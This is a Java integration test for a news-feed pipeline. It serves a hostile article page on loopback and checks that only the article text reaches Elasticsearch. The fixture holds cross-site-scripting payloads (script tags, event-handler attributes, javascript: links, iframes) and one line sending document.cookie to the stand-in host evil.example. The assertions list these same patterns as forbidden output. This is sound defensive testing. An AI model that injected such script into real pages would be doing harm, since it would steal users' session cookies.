package org.watchfloor.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Comparator;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.watchfloor.app.run.Pipeline;
import org.watchfloor.model.Json;
import org.watchfloor.model.config.Settings;

/**
 * A hostile article page (script, iframes, event-handler attributes, {@code javascript:} links) served on loopback
 * through a feed travels feeds, pages, enricher and indexer into Elasticsearch as text only: the document holds the
 * article's sentences and none of the markup or script.
 */
class HostilePageIT {
  private static final String MARKER = "Coast guard cutters doubled their night patrols off the harbour mouth";
  private static final HttpClient HTTP = HttpClient.newHttpClient();
  private static HttpServer site;
  private static Pipeline pipeline;
  private static Path configDir;

  // Article text written for this test; the markup around it is what a hostile page might carry.
  private static final String PAGE = """
      <!DOCTYPE html>
      <html><head><title>Night patrols doubled after drill</title>
      <script>document.write('<img src=x onerror=stealCookies()>'); stealCookies();</script>
      <style>body { background: url("javascript:stealCookies()") }</style>
      <meta http-equiv="refresh" content="0; url=javascript:stealCookies()">
      </head>
      <body onload="stealCookies()">
      <nav><a href="javascript:stealCookies()">Home</a> <a href="/about" onmouseover="stealCookies()">About</a></nav>
      <article>
      <h1 onclick="stealCookies()">Night patrols doubled after drill</h1>
      <p>%s after a live-fire drill on Tuesday, the regional command said in a statement read on local radio.</p>
      <img src="/photo.jpg" onerror="stealCookies()" alt="A cutter at sea">
      <iframe src="javascript:stealCookies()" width="1" height="1"></iframe>
      <p>The command said the drill tested how quickly crews could close the channel to shipping, and that fishing
      boats had been warned two days ahead. <a href="javascript:stealCookies()">Read the statement</a>.</p>
      <p>Officials in the neighbouring province said they had not been told of the drill in advance and asked for
      talks. A spokesman said the patrols would return to their usual pace by the end of the month.</p>
      <p onmouseover="stealCookies()">Harbour traders said the closures had delayed three container ships and
      left dozens of trucks waiting at the gates through the night.</p>
      <script>stealCookies(); fetch('https://evil.example/steal?c=' + document.cookie);</script>
      <svg><script>stealCookies()</script></svg>
      </article>
      </body></html>
      """.formatted(MARKER);

  @BeforeAll
  static void start() throws IOException {
    site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 16);
    AtomicReference<String> base = new AtomicReference<>();
    site.createContext("/", ex -> {
      String path = ex.getRequestURI().getPath();
      byte[] body;
      String type;
      if (path.equals("/feed.xml")) {
        type = "application/rss+xml; charset=utf-8";
        body = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>Harbour Desk</title>"
            + "<link>" + base.get() + "/</link><description>d</description><item><title>Night patrols doubled"
            + "</title><link>" + base.get() + "/2026/12/patrols</link><guid>hostile-1</guid>"
            + "<description><![CDATA[<script>stealCookies()</script>Patrols doubled.]]></description>"
            + "</item></channel></rss>").getBytes(StandardCharsets.UTF_8);
      } else if (path.equals("/2026/12/patrols")) {
        type = "text/html; charset=utf-8";
        body = PAGE.getBytes(StandardCharsets.UTF_8);
      } else {
        ex.sendResponseHeaders(404, -1);
        ex.close();
        return;
      }
      ex.getResponseHeaders().set("Content-Type", type);
      ex.sendResponseHeaders(200, body.length);
      try (OutputStream out = ex.getResponseBody()) {
        out.write(body);
      }
    });
    site.start();
    base.set("http://127.0.0.1:" + site.getAddress().getPort());

    configDir = Files.createTempDirectory("watchfloor-hostile-it-");
    try (var files = Files.list(Path.of("../../config"))) {
      for (Path f : (Iterable<Path>) files::iterator) {
        Files.copy(f, configDir.resolve(f.getFileName()));
      }
    }
    Files.writeString(configDir.resolve("sources.yaml"), """
        sources:
          - name: hostile-harbour
            url: %s/feed.xml
            min_interval: 5s
            max_interval: 30s
            allow_private: true
        """.formatted(base.get()));
    Settings settings = Settings.load(configDir)
        .with("feeds.startup.jitter", "0ms")
        .with("pages.host.delay", "50ms");
    pipeline = Pipeline.start(new Pipeline.Options(settings, null, null, false));
  }

  @AfterAll
  static void stop() throws IOException {
    if (pipeline != null) {
      pipeline.close();
    }
    if (site != null) {
      site.stop(0);
    }
    if (configDir != null) {
      try (var files = Files.walk(configDir)) {
        files.sorted(Comparator.reverseOrder()).forEach(f -> f.toFile().delete());
      }
    }
  }

  private static JsonNode searchAll() throws Exception {
    HttpRequest req = HttpRequest.newBuilder(URI.create(pipeline.elasticsearchUrl() + "/watchfloor-articles/_search"))
        .header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofString("{\"size\": 50, \"query\": {\"match_all\": {}}}")).build();
    HttpResponse<byte[]> resp = HTTP.send(req, HttpResponse.BodyHandlers.ofByteArray());
    if (resp.statusCode() != 200) {
      return Json.MAPPER.createObjectNode();
    }
    return Json.MAPPER.readTree(resp.body());
  }

  private static String indexedDocument() throws Exception {
    for (JsonNode hit : searchAll().path("hits").path("hits")) {
      String source = Json.MAPPER.writeValueAsString(hit.path("_source"));
      if (source.contains("Coast guard cutters doubled")) {
        return source;
      }
    }
    return null;
  }

  @Test
  void theArticleIsIndexedAsTextWithoutMarkupOrScript() throws Exception {
    AtomicReference<String> doc = new AtomicReference<>();
    await().atMost(Duration.ofMinutes(4)).pollInterval(Duration.ofSeconds(2))
        .until(() -> {
          doc.set(indexedDocument());
          return doc.get() != null;
        });
    String source = doc.get();
    assertThat(source).contains(MARKER)
        .contains("fishing boats had been warned two days ahead")
        .contains("left dozens of trucks waiting at the gates");
    String lower = source.toLowerCase(java.util.Locale.ROOT);
    assertThat(lower).doesNotContain("<script", "</script", "<iframe", "<svg", "<img", "<style", "<a ", "<meta",
        "onerror", "onload", "onclick", "onmouseover", "javascript:", "stealcookies", "document.cookie",
        "evil.example");
  }
}
